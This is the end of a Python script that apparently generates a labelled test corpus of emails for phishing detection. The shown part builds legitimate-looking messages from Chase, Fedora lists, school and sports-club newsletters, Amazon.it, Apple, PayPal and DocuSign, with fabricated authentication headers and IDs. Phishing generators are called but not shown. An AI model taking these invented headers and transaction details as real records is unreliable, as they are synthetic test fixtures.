        subject="Your Chase Business Complete Checking statement is ready", date=when(2025, 2, 3, 6, 31, 22, -5),
        ip="159.53.110.42", helo="vsmtp3.chase.com", rdns=None, mailfrom="no.reply.alerts@chase.com", spf="pass",
        dkim="pass", dkim_d="chase.com", dkim_sign=("chase.com", "d4815"), dmarc="pass", dmarc_policy="reject",
        msgid=f"{int(hx(slug, 12), 16)}.JavaMail.svc_alerts@vsmtp3.chase.com", body=alt(slug, plain, html))

    # b10 mailing list (Mailman 3)
    slug = "mailing-list-fedora"
    plain = ("On Mon, 2025-01-20 at 10:04 +0100, Tom Bauer wrote:\n> After upgrading to Fedora 41 my second monitor "
             "stays black after resume.\n> Anyone seen this?\n\nYes, same here on an AMD card with a DisplayPort "
             "dock. It seems to be the\nkernel 6.12.9 regression; booting 6.12.7 from the GRUB menu fixes it for me.\n"
             "There is a bug open already:\n\nhttps://bugzilla.redhat.com/show_bug.cgi?id=2338412\n\n"
             "As a workaround you can also unplug/replug the dock after resume.\n\n-- \nMarkus\n"
             "_______________________________________________\n"
             "users mailing list -- users@lists.fedoraproject.org\n"
             "To unsubscribe send an email to users-leave@lists.fedoraproject.org\n"
             "Fedora Code of Conduct: https://docs.fedoraproject.org/en-US/project/code-of-conduct/\n"
             "List Guidelines: https://fedoraproject.org/wiki/Mailing_list_guidelines\n"
             "List Archives: https://lists.fedoraproject.org/archives/list/users@lists.fedoraproject.org\n"
             "Do not reply to spam, report it: https://pagure.io/fedora-infrastructure/new_issue\n")
    add(slug, B, "Fedora users mailing-list post (Mailman 3): List-Id/List-Post/List-Unsubscribe headers, list "
        "footer, envelope users-bounces@, reply in a thread with a bugzilla link",
        site="brackwede", rcpt="f.hartmann", to="Community support for Fedora users <users@lists.fedoraproject.org>",
        frm=("Markus Heinzmann", "markus@heinzmann.name"),
        subject="Re: Second monitor black after resume (F41)", date=when(2025, 1, 20, 11, 37, 9, 1),
        ip="38.145.60.20", helo="lists.fedoraproject.org", rdns="smtp-mm-ib01.fedoraproject.org",
        mailfrom="users-bounces@lists.fedoraproject.org", spf="pass", dkim="fail", dkim_d="heinzmann.name", dkim_sign=("heinzmann.name", "mail"),
        dmarc="none", hfrom_domain="heinzmann.name", msgid=f"{hx(slug, 40)}.camel@heinzmann.name",
        pre=[received_generic("mail.heinzmann.name", "mail.heinzmann.name", "88.99.241.7", "lists.fedoraproject.org",
                              "ESMTPS", "B4F2D6A1C", "users@lists.fedoraproject.org",
                              when(2025, 1, 20, 11, 37, 11, 1), software="Postfix")],
        xmailer="User-Agent: Evolution 3.54.3 (3.54.3-1.fc41)",
        extra=["Sender: users-bounces@lists.fedoraproject.org",
               f"In-Reply-To: <{hx(slug + 'p', 32)}@bauer-home.de>",
               f"References: <{hx(slug + 'p', 32)}@bauer-home.de>",
               "Reply-To: Community support for Fedora users <users@lists.fedoraproject.org>",
               "List-Id: Community support for Fedora users <users.lists.fedoraproject.org>",
               "List-Archive: <https://lists.fedoraproject.org/archives/list/users@lists.fedoraproject.org/>",
               "List-Help: <mailto:users-request@lists.fedoraproject.org?subject=help>",
               "List-Owner: <mailto:users-owner@lists.fedoraproject.org>",
               "List-Post: <mailto:users@lists.fedoraproject.org>",
               "List-Subscribe: <mailto:users-join@lists.fedoraproject.org>",
               "List-Unsubscribe: <mailto:users-leave@lists.fedoraproject.org>",
               "X-Mailman-Version: 3.3.8", "Precedence: list"],
        body=text(plain))

    # b11 French parents' association via Brevo
    slug = "ape-ecole-brevo"
    bl = lambda n: f"https://4n2mq.r.sp1-brevo.net/mk/cl/f/sh/{alnum(slug + str(n), 24, False)}/{alnum(slug + 'z' + str(n), 12, False)}"
    html = page(row('<p style="font-size:20px;color:#2e7d32;"><b>APE &Eacute;cole Jules Ferry</b> &ndash; '
                    'La lettre de mars</p>')
                + row(f'<p>Chers parents,</p><p>Le <b>carnaval de l\'&eacute;cole</b> aura lieu le samedi 22 mars &agrave; '
                      f'partir de 14 h dans la cour. Nous recherchons des b&eacute;n&eacute;voles pour la buvette et le '
                      f'stand cr&ecirc;pes : <a href="{bl(1)}">inscrivez-vous ici</a>.</p>'
                      f'<p>La <b>vente de chocolats de P&acirc;ques</b> a rapport&eacute; 1 240 &euro;, qui financeront '
                      f'la sortie au zoo des CP et CE1. Merci &agrave; tous !</p>'
                      f'<p>Prochaine r&eacute;union de l\'APE : mardi 8 avril, 20 h, salle polyvalente.</p>'
                      + button(bl(2), "Voir le programme du carnaval", "#2e7d32")
                      + '<p>&Agrave; bient&ocirc;t,<br>Le bureau de l\'APE</p>')
                + row(f'<p style="font-size:11px;color:#888;">Association des Parents d\'&Eacute;l&egrave;ves de '
                      f'l\'&eacute;cole Jules Ferry, 12 rue des &Eacute;coles, 26000 Valence<br>'
                      f'Vous recevez cet e-mail car vous &ecirc;tes adh&eacute;rent de l\'APE. '
                      f'<a href="{bl(3)}">Se d&eacute;sinscrire</a></p>'))
    plain = (f"Chers parents,\n\nLe carnaval de l'école aura lieu le samedi 22 mars à partir de 14 h.\n"
             f"Inscription bénévoles : {bl(1)}\n\nLe bureau de l'APE\nSe désinscrire : {bl(3)}\n")
    add(slug, B, "French school parents' association newsletter sent through Brevo: brevo.net click tracking, "
        "association's own domain DKIM-signed by Brevo, List-Unsubscribe, postal address",
        site="vallonet", rcpt="m.lemaire", frm=("APE École Jules Ferry", "contact@ape-julesferry-valence.fr"),
        subject="La lettre de l'APE – mars : carnaval, chocolats et réunion", date=when(2025, 3, 7, 18, 0, 14, 1),
        ip="77.32.148.19", helo="m19.mta.sp1-brevo.net", rdns="m19.mta.sp1-brevo.net",
        mailfrom=f"{alnum(slug + 'bo', 20, False)}@sp1-brevo.net", spf="pass", dkim="pass",
        dkim_d="ape-julesferry-valence.fr", dkim_sign=("ape-julesferry-valence.fr", "brevo1"), dmarc="pass",
        dmarc_policy="none", hfrom_domain="ape-julesferry-valence.fr",
        msgid=f"<{hx(slug, 12)}.{hx(slug + 'a', 12)}@smtp-relay.mailin.fr>"[1:-1],
        extra=unsub(bl(9), mailto=f"unsubscribe-{alnum(slug + 'u', 16, False)}@sp1-brevo.net")
        + ["X-Mailer: Brevo", "Feedback-ID: 41.2291044.1788390:Brevo", "Precedence: bulk"],
        body=alt(slug, plain, html))

    # b12 German sports club newsletter via CleverReach
    slug = "verein-newsletter-cleverreach"
    cl = lambda n: f"https://eu2.cleverreach.com/c/{int(hx(slug + str(n), 7), 16)}/{hx(slug + 'c' + str(n), 12)}-sxs7t3"
    html = page(row('<p style="font-size:20px;color:#003399;"><b>TSV Brackwede 1896 e.V.</b> &ndash; Newsletter April</p>')
                + row(f'<p>Liebe Mitglieder,</p><p>die <b>Jahreshauptversammlung</b> findet am Freitag, 25. April 2025, '
                      f'um 19:30 Uhr im Vereinsheim statt. Die Tagesordnung finden Sie <a href="{cl(1)}">hier</a>.</p>'
                      f'<p>Ab Mai bieten wir donnerstags einen neuen Kurs <b>R&uuml;ckenfit</b> an (18:00 Uhr, '
                      f'Sporthalle Nord). Anmeldung &uuml;ber die Gesch&auml;ftsstelle oder '
                      f'<a href="{cl(2)}">online</a>.</p><p>Sportliche Gr&uuml;&szlig;e<br>Ihr Vorstand</p>')
                + row(f'<p style="font-size:11px;color:#888;">TSV Brackwede 1896 e.V., Sportplatzweg 3, 33647 '
                      f'Bielefeld &middot; Vereinsregister Bielefeld VR 1123<br><a href="{cl(3)}">Newsletter abbestellen</a>'
                      f'</p>'))
    plain = f"Liebe Mitglieder,\n\nJahreshauptversammlung am 25. April 2025, 19:30 Uhr.\nTagesordnung: {cl(1)}\n"
    add(slug, B, "German sports club (Verein) member newsletter via CleverReach: tracking links, impressum footer, "
        "List-Unsubscribe, DKIM for the club domain",
        site="brackwede", rcpt="k.neumann", frm=("TSV Brackwede 1896 e.V.", "newsletter@tsv-brackwede.de"),
        subject="Newsletter April: Jahreshauptversammlung & neuer Kurs Rückenfit",
        date=when(2025, 4, 2, 17, 45, 0, 2), ip="195.201.112.53", helo="mta53.crsend.com", rdns="mta53.crsend.com",
        mailfrom=f"bounce-{int(hx(slug, 7), 16)}-{hx(slug + 'b', 10)}@bounce.crsend.com", spf="pass", dkim="pass",
        dkim_d="tsv-brackwede.de", dkim_sign=("tsv-brackwede.de", "cr"), dmarc="pass", dmarc_policy="none",
        hfrom_domain="tsv-brackwede.de", msgid=f"{hx(slug, 32)}@crsend.com",
        extra=unsub(cl(9)) + ["X-Mailer: CleverReach", "Precedence: bulk"], body=alt(slug, plain, html))

    # b13 Amazon.it shipped
    slug = "amazon-it-spedizione"
    ou = ("https://www.amazon.it/gp/your-account/ship-track?ie=UTF8&orderId=403-5512870-2214736&packageIndex=0"
          "&shipmentId=Dx7Qk2Lmz&ref_=pe_29437221_703517611_TE_typ")
    html = page(row('<p style="font-size:22px;"><b>amazon</b>.it</p>')
                + row(f'<p>Ciao Giulia,</p><p>Il tuo pacco è stato spedito e arriverà <b>venerdì 21 febbraio</b>.</p>'
                      f'<p>Ordine n. <a href="https://www.amazon.it/gp/css/order-details?orderID=403-5512870-2214736">'
                      f'403-5512870-2214736</a><br>Borraccia termica in acciaio 750 ml, 1 articolo</p>'
                      + button(ou, "Traccia il pacco", "#ffd814")
                      + '<p style="font-size:11px;color:#888;">Questa email è stata inviata da un indirizzo che non '
                        'accetta email in arrivo. Amazon EU S.à r.l., 38 avenue John F. Kennedy, L-1855 '
                        'Lussemburgo.</p>'))
    plain = f"Il tuo pacco è stato spedito. Ordine n. 403-5512870-2214736.\nTraccia il pacco: {ou}\n"
    add(slug, B, "genuine Amazon.it shipping confirmation delivered via Amazon SES with DKIM for amazon.it, tracking "
        "and order links on www.amazon.it only",
        site="bellandi", rcpt="giulia.r", frm=("Amazon.it", "spedizione-ordini@amazon.it"),
        subject="Spedito: \"Borraccia termica in acciaio...\"", date=when(2025, 2, 19, 16, 48, 33, 0),
        ip="54.240.3.22", helo="a3-22.smtp-out.eu-west-1.amazonses.com",
        rdns="a3-22.smtp-out.eu-west-1.amazonses.com",
        mailfrom=f"20250219164833{hx(slug, 16)}@bounces.amazon.it", spf="pass", dkim="pass", dkim_d="amazon.it",
        dkim_sign=("amazon.it", "2u3ghmwsk7hakwmo3ya5kafmt3j4x7jf"), dmarc="pass", dmarc_policy="quarantine",
        msgid=f"0102{hx(slug, 12)}-{hx(slug + 'a', 8)}-{hx(slug + 'b', 4)}-{hx(slug + 'c', 4)}-{hx(slug + 'd', 4)}-"
              f"{hx(slug + 'e', 12)}-000000@eu-west-1.amazonses.com",
        extra=["Feedback-ID: ::1.eu-west-1.Y9a2pFQ3kZ3dd6HWp0wMQMl1+dP4uTk/n0ev0OlBpgk=:AmazonSES"],
        body=alt(slug, plain, html))

    # b14 Apple receipt
    slug = "apple-receipt-icloud"
    html = page(row('<p style="font-size:26px;">&#63743; Receipt</p>')
                + row('<table width="100%" style="font-size:12px;"><tr><td>APPLE ACCOUNT<br>t.fletcher@harbourline.co.uk'
                      '</td><td>DATE<br>3 Mar 2025</td><td>ORDER ID<br>MT4B2K9QZX</td><td>DOCUMENT NO.<br>'
                      '192837465012</td></tr></table><hr><table width="100%" style="font-size:13px;"><tr><td>'
                      '<b>iCloud+ with 50 GB storage</b><br>Monthly (renews 3 Apr 2025)</td><td align="right">'
                      '&pound;0.99</td></tr><tr><td align="right"><b>TOTAL</b></td><td align="right"><b>&pound;0.99'
                      '</b></td></tr></table><p style="font-size:12px;">If you have any questions, visit '
                      '<a href="https://support.apple.com/billing">Apple Support</a>. To manage subscriptions, '
                      'go to Settings on your device or <a href="https://apps.apple.com/account/subscriptions">'
                      'apps.apple.com/account/subscriptions</a>.</p><p style="font-size:11px;color:#888;">Apple '
                      'Distribution International Ltd., Hollyhill Industrial Estate, Cork, Ireland. VAT No. '
                      'IE9700053D</p>'))
    plain = ("Receipt\n\nApple Account: t.fletcher@harbourline.co.uk\nOrder ID: MT4B2K9QZX\n\niCloud+ with 50 GB "
             "storage  £0.99\n\nManage subscriptions: https://apps.apple.com/account/subscriptions\n")
    add(slug, B, "genuine Apple receipt for a £0.99 iCloud+ renewal from email.apple.com with DKIM/DMARC pass, links "
        "to support.apple.com and apps.apple.com",
        site="harbour", rcpt="t.fletcher", frm=("Apple", "no_reply@email.apple.com"),
        subject="Your receipt from Apple.", date=when(2025, 3, 3, 21, 14, 9, 0), ip="17.111.110.47",
        helo="rn2-txn-msbadger07104.apple.com", rdns="rn2-txn-msbadger07104.apple.com",
        mailfrom="bounce@insideapple.apple.com", spf="pass", dkim="pass", dkim_d="email.apple.com",
        dkim_sign=("email.apple.com", "email0517"), dmarc="pass", dmarc_policy="reject",
        hfrom_domain="email.apple.com",
        msgid=f"{hx(slug, 8).upper()}-{hx(slug + 'a', 4).upper()}-{hx(slug + 'b', 4).upper()}-{hx(slug + 'c', 4).upper()}-"
              f"{hx(slug + 'd', 12).upper()}@insideapple.apple.com", body=alt(slug, plain, html))

    # b15 PayPal German receipt
    slug = "paypal-zahlung-gesendet"
    html = page(row('<p style="font-size:24px;color:#003087;"><b>PayPal</b></p>')
                + row('<p>Hallo Andreas Wagner,</p><p>Sie haben eine Zahlung in Höhe von <b>34,90 €</b> an '
                      '<b>Fahrradteile Lindner</b> gesendet.</p><table cellpadding="4" style="font-size:13px;">'
                      '<tr><td>Transaktionscode</td><td>7KD28154VX113262L</td></tr><tr><td>Datum</td><td>'
                      '12. Oktober 2024</td></tr><tr><td>Artikel</td><td>Schwalbe Marathon 28x1.40 (2 Stk.)</td></tr>'
                      '</table><p>Die Transaktion erscheint in Ihrem Konto erst nach einigen Minuten.</p>'
                      '<p style="font-size:12px;">Fragen? Besuchen Sie die <a href="https://www.paypal.com/de/'
                      'cshelp/personal">Hilfe-Center</a>.</p><p style="font-size:11px;color:#888;">PayPal (Europe) '
                      'S.à r.l. et Cie, S.C.A., 22-24 Boulevard Royal, L-2449 Luxembourg</p>'))
    plain = ("Hallo Andreas Wagner,\n\nSie haben eine Zahlung in Höhe von 34,90 € an Fahrradteile Lindner gesendet.\n"
             "Transaktionscode: 7KD28154VX113262L\n")
    add(slug, C, "genuine PayPal German payment receipt from service@paypal.de (DKIM d=paypal.de, DMARC pass), "
        "addresses the user by full name, only paypal.com help links",
        site="brackwede", rcpt="a.wagner", frm=("service@paypal.de", "service@paypal.de"),
        subject="Ihre Zahlung an Fahrradteile Lindner", date=when(2024, 10, 12, 14, 27, 51, -7),
        ip="173.0.84.227", helo="mx0.slc.paypal.com", rdns="mx0.slc.paypal.com", mailfrom="service@paypal.de",
        spf="pass", dkim="pass", dkim_d="paypal.de", dkim_sign=("paypal.de", "pp-dkim1"), dmarc="pass",
        dmarc_policy="reject", msgid=f"{hx(slug, 12)}.{int(hx(slug, 8), 16)}@paypal.com",
        extra=["X-Email-Type-Id: PPC000654"], body=alt(slug, plain, html))

    # b16 DocuSign completed envelope (legit)
    slug = "docusign-completed"
    link = (f"https://eu.docusign.net/Member/EmailStart.aspx?a={hx(slug, 8)}-{hx(slug + 'a', 4)}-{hx(slug + 'b', 4)}"
            f"-{hx(slug + 'c', 4)}-{hx(slug + 'd', 12)}&acct={hx(slug + 'acct', 8)}-{hx(slug + 'e', 4)}-4a2b-9c1d-"
            f"{hx(slug + 'f', 12)}&er={hx(slug + 'er', 8)}-{hx(slug + 'g', 4)}-4f3e-8d2c-{hx(slug + 'h', 12)}")
    html = page(row('<p style="font-size:22px;"><b>DocuSign</b></p>')
                + row('<table width="100%" bgcolor="#1e4ca1"><tr><td align="center" style="padding:25px;color:#fff;">'
                      '<p style="font-size:16px;">Your document has been completed</p>'
                      + button(link, "VIEW COMPLETED DOCUMENT", "#ffc820")
                      + '</td></tr></table><p>All parties have completed Please DocuSign: '
                        'Mietvertrag_Lagerflaeche_Halle3.pdf.</p><p style="font-size:11px;color:#888;">This message '
                        'was sent to you by Immobilien Kraus GmbH who is using the DocuSign Electronic Signature '
                        'Service. Do Not Share This Email.</p><p style="font-size:11px;color:#888;">Alternate '
                        'Signing Method: Visit DocuSign.com, click \'Access Documents\', and enter the security code: '
                        f'{alnum(slug, 32)}</p>'))
    plain = f"All parties have completed Please DocuSign: Mietvertrag_Lagerflaeche_Halle3.pdf.\nView: {link}\n"
    add(slug, B, "genuine DocuSign completed-envelope notice from dse@eumail.docusign.net (auth pass), link on "
        "eu.docusign.net with envelope GUIDs, expected follow-up to a signed lease",
        site="brackwede", rcpt="beschaffung", frm=("Immobilien Kraus GmbH via DocuSign", "dse@eumail.docusign.net"),
        reply_to="Thomas Kraus <t.kraus@immobilien-kraus.de>",
        subject="Completed: Please DocuSign: Mietvertrag_Lagerflaeche_Halle3.pdf",
        date=when(2025, 1, 28, 12, 4, 26, 0), ip="185.16.54.12", helo="mail5.eumail.docusign.net",
        rdns="mail5.eumail.docusign.net", mailfrom="bounces@eumail.docusign.net", spf="pass", dkim="pass",
        dkim_d="eumail.docusign.net", dkim_sign=("eumail.docusign.net", "s1"), dmarc="pass", dmarc_policy="reject",
        msgid=f"{hx(slug, 32)}@docusign.net", body=alt(slug, plain, html))


# =========================================================================== main

def main() -> None:
    phishing_admin()
    phishing_brands_1()
    phishing_brands_2()
    phishing_fraud()
    clean_mail()
    bulk_mail()
    bulk_mail_2()
    names = [f"{folder}/{name}" for folder, name, _, _ in OUT]
    assert len(names) == len(set(names)), "duplicate slug"
    lines = []
    for folder, name, data, desc in OUT:
        path = MAIL / folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        lines.append(f"samples/mail/{folder}/{name} | {folder} | {desc}")
    MANIFEST.write_text("\n".join(lines) + "\n", encoding="utf-8")
    counts = {}
    for folder, *_ in OUT:
        counts[folder] = counts.get(folder, 0) + 1
    print(counts)


if __name__ == "__main__":
    main()
